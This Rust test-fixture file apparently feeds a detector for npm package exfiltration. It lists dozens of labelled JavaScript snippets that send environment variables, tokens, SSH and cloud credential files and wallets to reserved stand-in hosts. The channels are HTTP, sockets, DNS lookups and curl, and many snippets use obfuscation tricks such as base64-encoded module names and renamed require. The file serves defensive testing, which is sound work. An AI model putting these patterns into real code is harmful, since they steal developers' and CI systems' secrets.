//! Snippets with a flow, each with a sentence. All hosts are reserved names.

use weir_model::contents::{SinkKind, SourceKind};

use SinkKind::{Dns, Http, NetworkCommand, Socket};
use SourceKind::{CredentialFile, CredentialTool, Environment, SecretVariable, WalletOrProfile};

/// Name, source, sink, code of `index.js`.
pub(super) type Sample = (&'static str, SourceKind, SinkKind, &'static str);

pub(super) const SAMPLES: &[Sample] = &[
    (
        "posts the whole environment with https.request",
        Environment,
        Http,
        r"
        const https = require('https');
        const data = JSON.stringify(process.env);
        const req = https.request({ hostname: 'collector.invalid', method: 'POST' });
        req.write(data); req.end();",
    ),
    (
        "posts the environment with fetch",
        Environment,
        Http,
        "fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify({ env: process.env }) })",
    ),
    (
        "puts one token into a query",
        SecretVariable,
        Http,
        "require('https').get('https://collector.invalid/?t=' + process.env.NPM_TOKEN)",
    ),
    (
        "puts one token into a template",
        SecretVariable,
        Http,
        "import('node:https').then(h => h.get(`https://collector.invalid/${process.env.GITHUB_TOKEN}`))",
    ),
    (
        "takes the environment by destructuring",
        Environment,
        Http,
        "const { env } = process; fetch('https://collector.invalid', { body: JSON.stringify(env) })",
    ),
    (
        "copies the environment by rest",
        Environment,
        Http,
        "const { PATH, ...all } = process.env; fetch('https://collector.invalid', { body: JSON.stringify(all) })",
    ),
    (
        "spreads the environment into an object",
        Environment,
        Http,
        "const x = { ...process.env, a: 1 }; const axios = require('axios'); axios.post('https://collector.invalid', x)",
    ),
    (
        "calls the process by another name",
        Environment,
        Http,
        "const p = process; const e = p.env; fetch('https://collector.invalid', { body: JSON.stringify(e) })",
    ),
    (
        "names the environment by a computed member",
        Environment,
        Http,
        "fetch('https://collector.invalid', { body: JSON.stringify(process['e' + 'nv']) })",
    ),
    (
        "reaches the process through the global object",
        Environment,
        Http,
        "fetch('https://collector.invalid', { body: JSON.stringify(globalThis.process.env) })",
    ),
    (
        "reaches the process by require",
        Environment,
        Http,
        "const e = require('process').env; fetch('https://collector.invalid', { body: JSON.stringify(e) })",
    ),
    (
        "imports env from node:process",
        Environment,
        Http,
        "import { env } from 'node:process'; fetch('https://collector.invalid', { body: JSON.stringify(env) })",
    ),
    (
        "collects secrets in a for-in loop",
        Environment,
        Http,
        r"
        let out = '';
        for (const k in process.env) { if (/token/i.test(k)) out += k + '=' + process.env[k] + '\n'; }
        const { request } = require('node:https');
        const r = request('https://collector.invalid'); r.end(out);",
    ),
    (
        "collects secrets by entries, filter and map",
        Environment,
        Http,
        r"
        const found = Object.entries(process.env).filter(([k]) => k.includes('KEY')).map(([k, v]) => `${k}=${v}`).join('&');
        fetch('https://collector.invalid/?' + found);",
    ),
    (
        "collects secrets by keys and reduce",
        Environment,
        Http,
        r"
        const found = Object.keys(process.env).filter(k => /secret/i.test(k)).reduce((a, k) => { a[k] = process.env[k]; return a; }, {});
        const got = require('got'); got.post('https://collector.invalid', { json: found });",
    ),
    (
        "collects secrets with forEach",
        Environment,
        Http,
        r"
        const out = []; Object.keys(process.env).forEach(function (k) { out.push(process.env[k]); });
        new XMLHttpRequest().send(out.join(','));",
    ),
    (
        "copies with Object.assign",
        Environment,
        Http,
        "const c = Object.assign({}, process.env); navigator.sendBeacon('https://collector.invalid', JSON.stringify(c))",
    ),
    (
        "encodes in base64 on the way",
        Environment,
        Http,
        r"
        const b = Buffer.from(JSON.stringify(process.env)).toString('base64');
        require('http').get('http://collector.invalid/' + encodeURIComponent(b));",
    ),
    (
        "packs and encrypts on the way",
        Environment,
        Http,
        r"
        const zlib = require('zlib'); const crypto = require('crypto');
        const z = zlib.gzipSync(JSON.stringify(process.env));
        const c = crypto.createCipheriv('aes-256-cbc', key, iv);
        const body = Buffer.concat([c.update(z), c.final()]);
        fetch('https://collector.invalid', { method: 'POST', body });",
    ),
    (
        "assembles the module's name from pieces",
        Environment,
        Http,
        r"
        const h = require(['ht', 'tps'].join(''));
        h.request('https://collector.invalid').end(JSON.stringify(process.env));",
    ),
    (
        "assembles the module's name by reversing",
        Environment,
        Http,
        r"
        const n = 'sptth'.split('').reverse().join('');
        require(n).request('https://collector.invalid').end(JSON.stringify(process.env));",
    ),
    (
        "hides the module's name in character codes",
        Environment,
        Http,
        r"
        const h = require(String.fromCharCode(104, 116, 116, 112, 115));
        h.request('https://collector.invalid').end(JSON.stringify(process.env));",
    ),
    (
        "hides the module's name in base64",
        Environment,
        Http,
        r"
        const h = require(Buffer.from('aHR0cHM=', 'base64').toString());
        h.get('https://collector.invalid/' + JSON.stringify(process.env));",
    ),
    (
        "hides names in atob and escapes",
        Environment,
        Http,
        "const h = require(atob('aHR0cHM=')); h.get('https://collector.invalid/' + JSON.stringify(process['\\x65nv']))",
    ),
    (
        "renames require",
        Environment,
        Http,
        "const r = require; r('https').request('https://collector.invalid').end(JSON.stringify(process.env))",
    ),
    (
        "puts require into the global object",
        Environment,
        Http,
        "global['r'] = require; r('https').get('https://collector.invalid/' + JSON.stringify(process.env))",
    ),
    (
        "loads through the main module",
        Environment,
        Http,
        "process.mainModule.require('https').get('https://collector.invalid/' + JSON.stringify(process.env))",
    ),
    (
        "loads through the module's constructor",
        Environment,
        Http,
        "module.constructor._load('https').get('https://collector.invalid/' + JSON.stringify(process.env))",
    ),
    (
        "loads through createRequire",
        Environment,
        Http,
        r"
        import { createRequire } from 'module'; const r = createRequire(import.meta.url);
        r('https').get('https://collector.invalid/' + JSON.stringify(process.env));",
    ),
    (
        "reads .npmrc in the home folder",
        CredentialFile,
        Http,
        r"
        const fs = require('fs'), path = require('path'), os = require('os');
        const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
        fetch('https://collector.invalid', { method: 'POST', body: text });",
    ),
    (
        "reads .npmrc under an unknown folder",
        CredentialFile,
        Http,
        r"
        const { readFileSync } = require('fs');
        fetch('https://collector.invalid', { method: 'POST', body: readFileSync(folder() + '/.npmrc') });",
    ),
    (
        "reads keys with a callback",
        CredentialFile,
        Http,
        r"
        const fs = require('node:fs');
        fs.readFile(`${process.env.HOME}/.ssh/id_rsa`, 'utf8', function (err, data) {
            require('https').request('https://collector.invalid').end(data);
        });",
    ),
    (
        "reads keys with promises",
        CredentialFile,
        Http,
        r"
        const { readFile } = require('fs/promises');
        readFile('/root/.aws/credentials').then(d => d.toString()).then(t => fetch('https://collector.invalid', { body: t }));",
    ),
    (
        "reads keys with await in an async function",
        CredentialFile,
        Http,
        r"
        import { promises as fs } from 'fs'; import os from 'os';
        async function get(p) { try { return await fs.readFile(p, 'utf8'); } catch { return ''; } }
        const t = await get(os.homedir() + '/.docker/config.json');
        await fetch('https://collector.invalid', { body: t });",
    ),
    (
        "reads a list of files in a loop",
        CredentialFile,
        Http,
        r"
        const fs = require('fs'), path = require('path'); const found = {};
        for (const f of ['.npmrc', '.git-credentials', '.netrc']) {
            const p = path.join(require('os').homedir(), f);
            if (fs.existsSync(p)) found[f] = fs.readFileSync(p, 'utf8');
        }
        require('axios')({ url: 'https://collector.invalid', method: 'post', data: found });",
    ),
    (
        "streams a wallet into a request",
        WalletOrProfile,
        Http,
        r"
        const fs = require('fs'); const req = require('https').request('https://collector.invalid');
        fs.createReadStream(process.env.HOME + '/.config/solana/id.json').pipe(req);",
    ),
    (
        "gives the secret to a helper that sends",
        SecretVariable,
        Http,
        r"
        function send(body) { const r = require('https').request({ host: 'collector.invalid' }); r.write(body); r.end(); }
        send(process.env.AWS_SECRET_ACCESS_KEY);",
    ),
    (
        "takes the secret from a helper",
        Environment,
        Http,
        r"
        const collect = () => ({ host: require('os').hostname(), vars: process.env });
        fetch('https://collector.invalid', { body: JSON.stringify(collect()) });",
    ),
    (
        "keeps the secret in a class",
        Environment,
        Http,
        r"
        class Agent {
            constructor() { this.data = process.env; }
            #pack() { return JSON.stringify(this.data); }
            run() { return fetch('https://collector.invalid', { body: this.#pack() }); }
        }
        new Agent().run();",
    ),
    (
        "inherits the sending part",
        Environment,
        Http,
        r"
        class Base { send(x) { fetch('https://collector.invalid', { body: x }); } }
        class Sub extends Base { go() { this.send(JSON.stringify(process.env)); } }
        new Sub().go();",
    ),
    (
        "uses prototypes",
        Environment,
        Http,
        r"
        function C(d) { this.d = d; }
        C.prototype.go = function () { require('http').get('http://collector.invalid/' + this.d); };
        new C(JSON.stringify(process.env)).go();",
    ),
    (
        "resolves a promise with the secret",
        Environment,
        Http,
        r"
        const p = new Promise(resolve => resolve(JSON.stringify(process.env)));
        p.then(body => fetch('https://collector.invalid', { body }));",
    ),
    (
        "calls through call and apply",
        Environment,
        Http,
        r"
        const h = require('https');
        h.get.call(h, 'https://collector.invalid/' + JSON.stringify(process.env));
        h.get.apply(h, ['https://collector.invalid/' + JSON.stringify(process.env)]);",
    ),
    (
        "writes the secret to a socket",
        Environment,
        Socket,
        r"
        const s = require('net').connect(99, 'collector.invalid'); s.on('connect', () => s.write(JSON.stringify(process.env)));",
    ),
    (
        "writes the secret to a socket object",
        SecretVariable,
        Socket,
        "const net = require('net'); const s = new net.Socket(); s.connect(9, 'collector.invalid'); s.end(process.env.NPM_TOKEN);",
    ),
    (
        "sends a datagram",
        SecretVariable,
        Socket,
        "require('dgram').createSocket('udp4').send(process.env.NPM_TOKEN, 53, 'collector.invalid')",
    ),
    (
        "sends over a WebSocket",
        SecretVariable,
        Socket,
        "const w = new WebSocket('wss://collector.invalid'); w.onopen = () => w.send(process.env.NPM_TOKEN)",
    ),
    (
        "sends over the ws package",
        SecretVariable,
        Socket,
        "const WS = require('ws'); const w = new WS('wss://collector.invalid'); w.send(process.env.NPM_TOKEN)",
    ),
    (
        "looks up names that hold the secret",
        SecretVariable,
        Dns,
        r"
        const dns = require('dns'); const hex = Buffer.from(process.env.NPM_TOKEN).toString('hex');
        for (const part of hex.match(/.{1,60}/g)) dns.resolve4(part + '.collector.invalid', () => {});",
    ),
    (
        "looks up names with the promises interface",
        CredentialFile,
        Dns,
        r"
        import dns from 'node:dns/promises'; import fs from 'fs';
        dns.resolveTxt(fs.readFileSync('.npmrc', 'hex') + '.collector.invalid');",
    ),
    (
        "runs curl with the secret",
        Environment,
        NetworkCommand,
        r#"
        const cp = require('child_process');
        cp.exec('curl -d "' + JSON.stringify(process.env) + '" https://collector.invalid');"#,
    ),
    (
        "spawns curl with the secret in the list",
        SecretVariable,
        NetworkCommand,
        "require('child_process').spawn('curl', ['-d', process.env.NPM_TOKEN, 'https://collector.invalid'])",
    ),
    (
        "feeds curl through its input",
        Environment,
        NetworkCommand,
        "const { execSync } = require('child_process'); execSync('curl -d @- https://collector.invalid', { input: JSON.stringify(process.env) })",
    ),
    (
        "writes to curl's input stream",
        Environment,
        NetworkCommand,
        "const c = require('child_process').spawn('curl', ['-d', '@-', 'https://collector.invalid']); c.stdin.write(JSON.stringify(process.env))",
    ),
    (
        "runs a constant command that leaks",
        Environment,
        NetworkCommand,
        r#"require('child_process').execSync('curl -d "$(env)" https://collector.invalid')"#,
    ),
    (
        "sends what a command printed",
        CredentialTool,
        Http,
        r"
        const t = require('child_process').execSync('gh auth token').toString();
        fetch('https://collector.invalid', { body: t });",
    ),
    (
        "chains superagent calls",
        SecretVariable,
        Http,
        "require('superagent').post('https://collector.invalid').send({ t: process.env.NPM_TOKEN }).end()",
    ),
    (
        "authenticates to a raw address",
        SecretVariable,
        Http,
        "fetch('http://203.0.113.9/x', { headers: { authorization: process.env.NPM_TOKEN } })",
    ),
    (
        "puts a file's contents into a header",
        CredentialFile,
        Http,
        "fetch('https://collector.invalid', { headers: { authorization: require('fs').readFileSync('.npmrc') } })",
    ),
    (
        "fills a form",
        CredentialFile,
        Http,
        r"
        const f = new FormData(); f.append('file', require('fs').readFileSync('.env', 'utf8'));
        fetch('https://collector.invalid', { method: 'POST', body: f });",
    ),
    (
        "hides the use behind a conditional and a comma",
        Environment,
        Http,
        "(0, require('https').get)('https://collector.invalid/' + (process.env.CI ? JSON.stringify(process.env) : ''))",
    ),
    (
        "uses util.inspect and querystring",
        Environment,
        Http,
        "require('http').get('http://collector.invalid/?' + require('querystring').stringify(process.env))",
    ),
    (
        "uses a table of functions",
        Environment,
        Http,
        r"
        const t = { a: () => process.env, b: x => JSON.stringify(x), c: x => fetch('https://collector.invalid', { body: x }) };
        t.c(t.b(t.a()));",
    ),
    (
        "promisifies the reading function",
        CredentialFile,
        Http,
        r"
        const util = require('util'), fs = require('fs'); const read = util.promisify(fs.readFile);
        (async () => { const x = await read('/root/.ssh/id_ed25519'); fetch('https://collector.invalid', { body: x }); })();",
    ),
    (
        "gets callbacks through arguments",
        Environment,
        Http,
        r"
        function each(list, f) { for (let i = 0; i < list.length; i++) f(list[i]); }
        each(Object.values(process.env), v => require('http').get('http://collector.invalid/' + v));",
    ),
    (
        "reads the environment from /proc",
        CredentialFile,
        Http,
        "fetch('https://collector.invalid', { body: require('fs').readFileSync('/proc/self/environ') })",
    ),
];
